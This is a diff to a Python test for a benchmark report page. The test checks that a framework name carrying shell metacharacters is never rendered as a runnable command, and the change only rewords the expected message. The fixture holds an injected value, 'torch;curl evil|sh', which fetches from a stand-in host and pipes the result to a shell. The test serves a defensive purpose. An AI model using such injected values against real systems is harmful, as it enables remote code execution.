@@ -302,9 +302,7 @@ def test_name_unsafe_for_a_shell_has_no_command(open_report, board):
         records[0], request={"framework": "torch;curl evil|sh"}, seconds=0.001
     )
     report_page = open_report([hostile_record], certificates)
-    assert (
-        "no command of xfbench does this again" in report_page.get_by_role("article").inner_text()
-    )
+    assert "No xfbench command repeats this" in report_page.get_by_role("article").inner_text()
     assert "evil|sh" not in " ".join(report_page.locator("code").all_text_contents())
 
 
